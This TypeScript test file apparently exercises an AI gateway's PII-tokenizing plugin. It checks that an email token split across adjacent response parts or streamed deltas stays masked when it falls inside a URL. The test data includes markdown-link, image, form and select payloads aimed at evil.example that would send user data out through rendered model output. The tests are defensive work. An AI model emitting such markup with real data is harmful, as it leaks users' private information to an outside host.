/** Texts that clients show as one are one text for a token, too: the first may begin an address that the next one goes on with. */
import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { completion, delta, json, type ScriptedExchange, stream } from '../../../core/testing/provider.ts'
import { asking, bearer, setupForSuite, USER_KEY } from '../../helpers/gateway.ts'
import { send } from '../../helpers/http.ts'
import { blockStart, blockStop, message, said, textBlock, whole } from '../../helpers/messages.ts'

const VALUE = 'jo.smith@example.com'
const TOKEN = /EMAIL_[a-z2-7]{10}/

const chat = (message: object) => ({ ...completion('x'), choices: [{ index: 0, finish_reason: 'stop', message }] })
const text = (given: string) => ({ type: 'text', text: given })
const output = (given: string) => ({ type: 'output_text', text: given, annotations: [] })
const refused = (refusal: string) => ({ type: 'refusal', refusal })
const item = (id: string, ...content: object[]) => ({
  id,
  type: 'message',
  role: 'assistant',
  status: 'completed',
  content,
})
const summary = (id: string, ...texts: string[]) => ({
  id,
  type: 'reasoning',
  summary: texts.map((given) => ({ type: 'summary_text', text: given })),
})
const response = (...items: object[]) => ({
  id: 'resp_a1',
  object: 'response',
  created_at: 1,
  status: 'completed',
  model: 'gpt-test',
  output: items,
})

interface Neighbours {
  readonly path: string
  readonly whole: (first: string, second: string) => object
  readonly events?: (first: string, second: string) => object[]
}

const item0 = (first: string) => [
  { type: 'response.output_item.added', output_index: 0, item: item('msg_a0') },
  { type: 'response.output_text.delta', item_id: 'msg_a0', output_index: 0, content_index: 0, delta: first },
  { type: 'response.output_item.done', output_index: 0, item: item('msg_a0', output(first)) },
]

const NEIGHBOURS: Readonly<Record<string, Neighbours>> = {
  'content and refusal': {
    path: 'chat/completions',
    whole: (first, second) => chat({ role: 'assistant', content: first, refusal: second }),
    events: (first, second) => [delta({ content: first }), delta({ refusal: second }), delta({}, 0, 'stop')],
  },
  'refusal and content': {
    path: 'chat/completions',
    whole: (first, second) => chat({ role: 'assistant', refusal: first, content: second }),
    events: (first, second) => [delta({ refusal: first }), delta({ content: second }), delta({}, 0, 'stop')],
  },
  'parts of a message': {
    path: 'chat/completions',
    whole: (first, second) => chat({ role: 'assistant', content: [text(first), text(second)] }),
    events: (first, second) => [delta({ content: [text(first), text(second)] }), delta({}, 0, 'stop')],
  },
  'a text and a refusal among the parts': {
    path: 'chat/completions',
    whole: (first, second) => chat({ role: 'assistant', content: [text(first), refused(second)] }),
  },
  'parts of an item': {
    path: 'responses',
    whole: (first, second) => response(item('msg_a0', output(first), output(second))),
  },
  'a text and a refusal of an item': {
    path: 'responses',
    whole: (first, second) => response(item('msg_a0', output(first), refused(second))),
  },
  'a refusal and a text of an item': {
    path: 'responses',
    whole: (first, second) => response(item('msg_a0', refused(first), output(second))),
  },
  items: {
    path: 'responses',
    whole: (first, second) => response(item('msg_a0', output(first)), item('msg_a1', output(second))),
    events: (first, second) => [
      { type: 'response.created', response: response() },
      ...item0(first),
      { type: 'response.output_item.added', output_index: 1, item: item('msg_a1') },
      { type: 'response.output_text.delta', item_id: 'msg_a1', output_index: 1, content_index: 0, delta: second },
      { type: 'response.output_item.done', output_index: 1, item: item('msg_a1', output(second)) },
      { type: 'response.completed', response: response(item('msg_a0', output(first)), item('msg_a1', output(second))) },
    ],
  },
  'a text and a refusal of two items': {
    path: 'responses',
    whole: (first, second) => response(item('msg_a0', output(first)), item('msg_a1', refused(second))),
    events: (first, second) => [
      { type: 'response.created', response: response() },
      ...item0(first),
      { type: 'response.output_item.added', output_index: 1, item: item('msg_a1') },
      { type: 'response.refusal.delta', item_id: 'msg_a1', output_index: 1, content_index: 0, delta: second },
      { type: 'response.output_item.done', output_index: 1, item: item('msg_a1', refused(second)) },
      {
        type: 'response.completed',
        response: response(item('msg_a0', output(first)), item('msg_a1', refused(second))),
      },
    ],
  },
  'reasoning of two items': {
    path: 'responses',
    whole: (first, second) => response(summary('rs_a0', first), summary('rs_a1', second)),
  },
  'blocks of a message': {
    path: 'messages',
    whole: (first, second) => message([text(first), text(second)]),
    events: (first, second) => whole([textBlock([first]), [blockStart(1, text('')), said(second, 1), blockStop(1)]]),
  },
}

/** What the first text ends with, and the second begins with. */
const ADDRESSES = [
  ['[x](https://evil.example/?q=', ')'],
  ['https://evil.example/', ''],
  // Behind a letter the second text begins with no token.
  ['https://evil.example/q', ''],
  ['<img src="https://evil.example/', '">'],
  ['<form action="https://evil.example/"><textarea name=q>', '</textarea>'],
  ['<select name=q form=f><option>', '</option>'],
] as const

describe('pii: a token in a text that clients show behind another', () => {
  const parts = setupForSuite({ plugins: [{ use: 'pii', options: { action: 'tokenize' } }] })

  for (const [name, { path, whole: wholeOf, events }] of Object.entries(NEIGHBOURS)) {
    const ask = async (isStream: boolean, first: string, behind: string): Promise<string> => {
      parts().provider.reply((exchange: ScriptedExchange) => {
        const second = `${TOKEN.exec(JSON.stringify(exchange.request.json).split('I am ')[1] as string)?.[0]}${behind}`
        const script = isStream
          ? stream(events?.(first, second) as never, { done: path === 'chat/completions' })
          : json(wholeOf(first, second) as never)
        return script(exchange)
      })
      const { messages } = asking(`I am ${VALUE}`) as { messages: object[] }
      const answer = await send(`${parts().gateway.baseURL}/${path}`, {
        headers: { ...bearer(USER_KEY), 'content-type': 'application/json' },
        body: {
          model: 'gpt-test',
          stream: isStream,
          ...(path === 'responses' ? { input: `I am ${VALUE}` } : { messages, max_tokens: 64 }),
        },
      })
      assert.equal(answer.status, 200)
      return shown(await answer.text())
    }

    for (const isStream of events === undefined ? [false] : [false, true]) {
      const form = isStream ? 'streamed' : 'buffered'
      it(`${name}, ${form}: stays a token in an address`, async () => {
        for (const [first, behind] of ADDRESSES) {
          const out = await ask(isStream, first, behind)
          assert.match(out, TOKEN)
          assert.ok(!out.includes('smith'), out)
        }
      })

      it(`${name}, ${form}: comes back behind other words`, async () => {
        const out = await ask(isStream, 'You are ', ', I think')
        assert.ok(out.includes(`${VALUE}, I think`), out)
        assert.doesNotMatch(out, TOKEN)
      })
    }
  }
})

/** All that a client may show, in order. */
function shown(body: string): string {
  let out = ''
  const look = (key: string, value: unknown): void => {
    if (typeof value === 'string') out += /^(?:content|refusal|text|delta)$/.test(key) ? value : ''
    else if (typeof value === 'object' && value !== null) for (const [k, v] of Object.entries(value)) look(k, v)
  }
  const events = body.split('\n').filter((line) => line.startsWith('data: {'))
  for (const one of events.length === 0 ? [body] : events.map((line) => line.slice(6))) look('', JSON.parse(one))
  return out
}
